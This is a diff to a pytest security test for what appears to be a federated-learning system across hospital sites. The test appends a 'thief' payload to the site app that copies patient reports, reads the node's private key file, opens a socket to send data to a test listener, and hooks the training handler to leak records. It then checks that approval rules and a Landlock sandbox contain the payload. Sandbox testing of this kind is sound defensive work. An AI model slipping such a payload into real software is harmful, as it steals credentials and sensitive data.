@@ -8,7 +8,8 @@ from __future__ import annotations
 
 import re
 import shutil
-from collections.abc import Callable
+import socket
+from collections.abc import Callable, Iterator
 from pathlib import Path
 
 import pytest
@@ -21,17 +22,32 @@ Make = Callable[..., Federation]
 
 THIEF = """
 
+import socket as _socket
 from pathlib import Path as _Path
 
-_LOOT = _Path({loot!r})
-_REPORTS = _Path({reports!r})
-(_LOOT / "imported").write_text(_REPORTS.read_text("utf-8"), "utf-8")
+
+def _loot(name, take):
+    try:
+        _Path({loot!r}, name).write_text(take(), "utf-8")
+    except OSError:
+        pass
+
+
+def _call():
+    with _socket.create_connection(("127.0.0.1", {port}), timeout=2) as peer:
+        peer.sendall(b"stolen")
+    return "called"
+
+
+_loot("imported", lambda: _Path({reports!r}).read_text("utf-8"))
+_loot("key", lambda: _Path({node!r}, "node.key").read_text("utf-8"))
+_loot("called", _call)
 _honest_train = _train
 
 
 def _stealing_train(site, study, settings, content):
     text = (site.data / "metadata_unilateral" / "reports.csv").read_text("utf-8")
-    (_LOOT / "trained").write_text(text, "utf-8")
+    _loot("trained", lambda: text)
     reply = _honest_train(site, study, settings, content)
     {theft}
     return reply
@@ -47,34 +63,53 @@ EXTRA_TENSOR = (
 )
 
 
-def changed_app(checkout: Path, folder: Path, loot: Path, hospitals: Hospitals, theft: str) -> Path:
+def changed_app(checkout: Path, folder: Path, **values: object) -> Path:
     """A copy of the project in which the site's app steals; its `train` handler is the same function."""
     ignore = shutil.ignore_patterns(".git", ".venv", "runs", "tests", "__pycache__", "*.egg-info", "docs")
     shutil.copytree(checkout, folder, ignore=ignore)
     app = folder / "client" / "app.py"
-    reports = hospitals.sites["A"] / "metadata_unilateral" / "reports.csv"
     code = app.read_text("utf-8")
     assert "_answer(message, context, _train)" in code, "the handler looks the function up when it is called"
-    app.write_text(code + THIEF.format(loot=str(loot), reports=str(reports), theft=theft), encoding="utf-8")
+    app.write_text(code + THIEF.format(**values), encoding="utf-8")
     return folder
+
+
+@pytest.fixture
+def listener() -> Iterator[socket.socket]:
+    """Somebody who waits for what is stolen."""
+    with socket.create_server(("127.0.0.1", 0)) as listener:
+        listener.settimeout(0.1)
+        yield listener
 
 
 @pytest.mark.parametrize(
     "theft", [EXTRA_RECORD, EXTRA_NUMBER, EXTRA_TENSOR], ids=["record", "number", "tensor"]
 )
 def test_a_changed_bundle_waits_unread_and_once_approved_sends_nothing_more(
-    make_federation: Make, hospitals: Hospitals, checkout: Path, tmp_path: Path, theft: str
+    make_federation: Make,
+    hospitals: Hospitals,
+    checkout: Path,
+    listener: socket.socket,
+    tmp_path: Path,
+    theft: str,
 ) -> None:
-    loot = tmp_path / "loot"
-    loot.mkdir()
     federation = make_federation()
     federation.start_server()
     for site in ("A", "B"):
         federation.join(site)
         federation.start_site(site)
     federation.wait_online("A", "B")
-    copy = changed_app(checkout, tmp_path / "copy", loot, hospitals, theft)
-    federation.app = copy
+    loot = federation.private("A") / "loot"  # where the site's app may write
+    loot.mkdir()
+    federation.app = changed_app(
+        checkout,
+        tmp_path / "copy",
+        loot=str(loot),
+        reports=str(hospitals.sites["A"] / "metadata_unilateral" / "reports.csv"),
+        node=str(federation.node("A")),
+        port=listener.getsockname()[1],
+        theft=theft,
+    )
 
     federation.submit("waits", sites=2)
     wait_until(lambda: federation.failure("waits"), 400, "the study fails")
@@ -93,7 +128,12 @@ def test_a_changed_bundle_waits_unread_and_once_approved_sends_nothing_more(
 
     federation.submit("approved", sites=2)
     wait_until(lambda: federation.failure("approved"), 600, "the study fails")
-    assert {entry.name for entry in loot.iterdir()} == {"imported", "trained"}, "the approved code should run"
+    taken = {entry.name for entry in loot.iterdir()}
+    assert {"imported", "trained"} <= taken, "the approved code should run"
+    if "no Landlock" not in federation.sites["A"].said():
+        assert taken == {"imported", "trained"}, "the fence should keep the app from the rest"
+        with pytest.raises(TimeoutError):
+            listener.accept()
     stolen = (loot / "trained").read_text("utf-8").splitlines()[1].split(",", 1)[1]
     failure = str(federation.failure("approved"))
     assert "0 of 2 sites sent a sound reply" in failure, failure
